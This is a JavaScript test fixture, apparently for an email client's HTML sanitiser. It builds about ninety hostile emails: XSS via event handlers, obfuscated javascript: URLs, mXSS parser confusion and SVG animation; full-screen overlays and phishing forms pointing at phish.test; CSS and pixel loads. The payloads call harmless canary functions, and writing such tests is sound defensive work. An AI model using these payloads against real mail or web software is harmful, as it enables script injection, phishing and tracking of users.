// Hostile HTML, one email each: every payload that could run calls top.__xss(n) (or alert(n), or
// fetches /__beacon/js-n); loads that must not happen fetch /__beacon/load-n. `n` is the case's
// number, so a finding names its case. `attach` adds an inline image with Content-ID shot@hostile.
const svgOnload = (n) => Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" id="x" onload="top.__xss(${n})"><script>top.__xss(${n})</script><rect width="10" height="10"/></svg>`).toString('base64');
const htmlScript = (n) => Buffer.from(`<script>top.__xss(${n})</script>`).toString('base64');
const cover = 'top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:rgba(200,0,0,.6)';

/** [name, (n) => html, options?] */
const list = [
  // Attributes that hold markup-looking text (the original finding and its relatives).
  ['alt holding a cid: src and an onerror', (n) => `<p><img alt=" src=cid:shot@hostile onerror=top.__xss(${n}) " src="cid:missing@hostile"></p>`, { attach: true }],
  ['single-quoted alt holding a cid: src and an onload', (n) => `<img alt=' src=cid:shot@hostile onload=top.__xss(${n}) ' src='cid:shot@hostile'>`, { attach: true }],
  ['alt holding a cid: src that does not resolve', (n) => `<img alt=" src=cid:x onerror=top.__xss(${n}) " src="cid:shot@hostile">`, { attach: true }],
  ['alt holding a full-screen style', () => `<img alt=" src=cid:shot@hostile style=position:fixed;${cover} " src="cid:shot@hostile">`, { attach: true }],
  ['title holding a cid: src and onmouseover', (n) => `<a title=" src=cid:shot@hostile onmouseover=top.__xss(${n}) " href="https://example.com/">link</a>`, { attach: true }],
  ['entity-quoted attribute break', (n) => `<img src="cid:shot@hostile" title="&quot; onerror=top.__xss(${n}) x=&quot;">`, { attach: true }],
  ['title holding a closing tag and an img', (n) => `<p title="</p><img src=x onerror=top.__xss(${n})>">title</p>`],
  ['unquoted value with a slash', (n) => `<img src=x/onerror=top.__xss(${n})>`],
  ['handler after a real cid image', (n) => `<img src="cid:shot@hostile" onload="top.__xss(${n})">`, { attach: true }],
  // Namespace and parsing confusion (mXSS).
  ['noscript holding a closing noscript in an attribute', (n) => `<noscript><p title="</noscript><img src=x onerror=top.__xss(${n})>"></noscript>`],
  ['style element holding an img', (n) => `<style><img src=x onerror=top.__xss(${n})></style><p>after style</p>`],
  ['textarea holding an img', (n) => `<textarea><img src=x onerror=top.__xss(${n})></textarea>`],
  ['title element holding an img', (n) => `<title><img src=x onerror=top.__xss(${n})></title>`],
  ['svg style holding an img', (n) => `<svg><style><img src=x onerror=top.__xss(${n})></style></svg>`],
  ['math mglyph style', (n) => `<math><mtext><table><mglyph><style><img src=x onerror=top.__xss(${n})>`],
  ['svg p style id', (n) => `<svg></p><style><a id="</style><img src=1 onerror=top.__xss(${n})>">`],
  ['form math mglyph', (n) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=top.__xss(${n})>`],
  ['nested comment', (n) => `<!--><img src=x onerror=top.__xss(${n})>-->`],
  ['comment closed with --!>', (n) => `<!-- --!><img src=x onerror=top.__xss(${n})> -->`],
  ['xmp holding an img', (n) => `<xmp><img src=x onerror=top.__xss(${n})></xmp>`],
  ['noembed holding an img', (n) => `<noembed><img src=x onerror=top.__xss(${n})></noembed>`],
  ['template holding a script', (n) => `<template><script>top.__xss(${n})</script></template><p>t</p>`],
  ['CDATA in svg', (n) => `<svg><![CDATA[><img src=x onerror=top.__xss(${n})>]]></svg>`],
  // Overlays drawn over the app.
  ['fixed full-screen link', () => `<div style="position:fixed;${cover}"><a href="https://phish.test/">Your session expired — sign in</a></div>`],
  ['absolute huge box', () => `<div style="position:absolute;top:0;left:0;width:5000px;height:5000px;z-index:999;background:red">x</div>`],
  ['sticky header', () => `<div style="position:sticky;top:0;z-index:999999;background:red">sticky</div>`],
  ['negative margins', () => `<div style="margin-top:-2000px;margin-left:-2000px;width:5000px;height:5000px;background:red">neg</div>`],
  ['transform scale', () => `<div style="transform:translate(-500px,-500px) scale(20);background:red">scaled</div>`],
  ['clip-path and fixed', () => `<div style="clip-path:inset(0);position:fixed;inset:0;background:red">clip</div>`],
  ['huge width and height', () => `<div style="width:99999px;height:99999px;background:red">big</div>`],
  ['fixed with !important', () => `<div style="position:fixed !important;${cover}">important</div>`],
  ['upper-case declarations', () => `<div style="POSITION:FIXED;TOP:0;LEFT:0;WIDTH:100%;HEIGHT:100%;BACKGROUND:RED">upper</div>`],
  ['escaped property name', () => `<div style="pos\\ition:fixed;${cover}">escaped</div>`],
  ['relative with negative offsets', () => `<div style="position:relative;top:-800px;left:-800px;background:red">rel</div>`],
  ['invisible fixed link', () => `<a href="https://phish.test/" style="display:block;position:fixed;inset:0;opacity:0">invisible</a>`],
  ['table fixed and huge', () => `<table style="position:fixed;top:0;left:0" width="99999"><tr><td>wide</td></tr></table>`],
  ['huge font', () => `<div style="font-size:900px;line-height:900px">huge</div>`],
  ['style sheet making everything fixed', () => `<style>*{position:fixed!important;${cover}}</style><p>sheet</p>`],
  ['outline and box-shadow spill', () => `<div style="box-shadow:0 0 0 5000px red;outline:5000px solid red">shadow</div>`],
  // Loads and code in CSS.
  ['url() in background', (n) => `<div style="background:url(/__beacon/load-${n})">css url</div>`],
  ['expression()', (n) => `<div style="width:expression(top.__xss(${n}))">expr</div>`],
  ['behavior and binding', (n) => `<div style="behavior:url(/__beacon/load-${n});-moz-binding:url(/__beacon/load-${n})">b</div>`],
  ['link rel=stylesheet', (n) => `<link rel="stylesheet" href="/__beacon/load-${n}"><p>linked</p>`],
  ['@import in a style element', (n) => `<style>@import url(/__beacon/load-${n});</style><p>import</p>`],
  // Page-level elements.
  ['base href', () => `<base href="https://phish.test/"><a href="login">relative link</a>`],
  ['form action', () => `<form action="https://phish.test/"><input name="password" type="password"><button>Sign in</button></form>`],
  ['button formaction', (n) => `<form><button formaction="javascript:top.__xss(${n})">b</button></form>`],
  ['meta refresh to javascript:', (n) => `<meta http-equiv="refresh" content="0;url=javascript:top.__xss(${n})">`],
  ['meta refresh to a site', () => `<meta http-equiv="refresh" content="0;url=https://phish.test/">`],
  ['body onload', (n) => `<body onload="top.__xss(${n})"><p>body</p></body>`],
  // SVG.
  ['svg onload', (n) => `<svg onload="top.__xss(${n})"></svg>`],
  ['svg animate onbegin', (n) => `<svg><animate onbegin="top.__xss(${n})" attributeName="x" dur="1s"></animate></svg>`],
  ['svg animate href to javascript:', (n) => `<svg><a><animate attributeName="href" values="javascript:top.__xss(${n})"></animate><text x="20" y="20">click</text></a></svg>`],
  ['svg use of a data: document', (n) => `<svg><use href="data:image/svg+xml;base64,${svgOnload(n)}#x"></use></svg>`],
  ['svg set onmouseover', (n) => `<svg><set attributeName="onmouseover" to="top.__xss(${n})"></set></svg>`],
  ['svg script', (n) => `<svg><script>top.__xss(${n})</script></svg>`],
  ['svg foreignObject img', (n) => `<svg><foreignObject><img src=x onerror="top.__xss(${n})"></foreignObject></svg>`],
  ['svg image loading a beacon', (n) => `<svg><image href="/__beacon/load-${n}"></image></svg>`],
  ['svg data: image with onload', (n) => `<img src="data:image/svg+xml;base64,${svgOnload(n)}">`],
  // Script schemes, however written.
  ['javascript: href', (n) => `<a href="javascript:top.__xss(${n})">j</a>`],
  ['tab inside javascript:', (n) => `<a href="jav&#x09;ascript:top.__xss(${n})">tab</a>`],
  ['entity-encoded javascript:', (n) => `<a href="&#106;&#97;vascript:top.__xss(${n})">entity</a>`],
  ['mixed case with a leading space', (n) => `<a href=" JaVaScRiPt:top.__xss(${n})">case</a>`],
  ['&colon; in javascript:', (n) => `<a href="javascript&colon;top.__xss(${n})">colon</a>`],
  ['data: html link', (n) => `<a href="data:text/html;base64,${htmlScript(n)}">data</a>`],
  ['vbscript: link', () => `<a href="vbscript:msgbox(1)">vb</a>`],
  ['javascript: img src', (n) => `<img src="javascript:top.__xss(${n})">`],
  ['srcset with javascript: and a beacon', (n) => `<img srcset="javascript:top.__xss(${n}) 1x, /__beacon/load-${n} 2x">`],
  ['svg xlink:href javascript:', (n) => `<svg><a xlink:href="javascript:top.__xss(${n})"><text x="10" y="20">x</text></a></svg>`],
  ['math href', (n) => `<math href="javascript:top.__xss(${n})">click</math>`],
  ['remote tracking pixel', (n) => `<img src="http://127.0.0.1:9/__beacon/load-${n}" width="1" height="1">`],
  // Embedded documents.
  ['script element', (n) => `<script>top.__xss(${n})</script><p>script</p>`],
  ['iframe javascript:', (n) => `<iframe src="javascript:top.__xss(${n})"></iframe>`],
  ['iframe srcdoc', (n) => `<iframe srcdoc="<script>top.__xss(${n})</script>"></iframe>`],
  ['iframe data:', (n) => `<iframe src="data:text/html;base64,${htmlScript(n)}"></iframe>`],
  ['object data:', (n) => `<object data="data:text/html;base64,${htmlScript(n)}"></object>`],
  ['embed svg', (n) => `<embed src="data:image/svg+xml;base64,${svgOnload(n)}">`],
  // Handlers in odd places.
  ['spaces around =', (n) => `<img src=x onerror  =  "top.__xss(${n})">`],
  ['upper-case handler', (n) => `<IMG SRC=x ONERROR="top.__xss(${n})">`],
  ['details ontoggle', (n) => `<details open ontoggle="top.__xss(${n})"><summary>s</summary>d</details>`],
  ['autofocus onfocus', (n) => `<input autofocus onfocus="top.__xss(${n})">`],
  ['video source onerror', (n) => `<video><source onerror="top.__xss(${n})"></video>`],
  ['marquee onstart', (n) => `<marquee onstart="top.__xss(${n})">m</marquee>`],
  ['pointer handler on a big block', (n) => `<div onpointerenter="top.__xss(${n})" onmouseover="top.__xss(${n})" style="display:block;width:100%;height:300px">hover me</div>`],
  ['alert and fetch', (n) => `<img src=x onerror="alert(${n});fetch('/__beacon/js-${n}')">`],
  ['target=_top link', () => `<a href="https://example.com/" target="_top">top</a>`],
  // A hostile payload in the quoted history, with a fold.
  ['payload in the folded quote', (n) => `<p>Thanks, that helps.</p><div>On Mon, 2 Nov 2026 at 10:00, Acme Support &lt;support@acme.test&gt; wrote:<blockquote><img src=x onerror="top.__xss(${n})"><div style="position:fixed;${cover}">quoted overlay</div></blockquote></div>`, { text: 'Thanks, that helps.\n\nOn Mon, 2 Nov 2026 at 10:00, Acme Support <support@acme.test> wrote:\n> quoted overlay\n' }],
];

export const cases = list.map(([name, html, options = {}], index) => ({ n: index + 1, name, html: html(index + 1), ...options }));
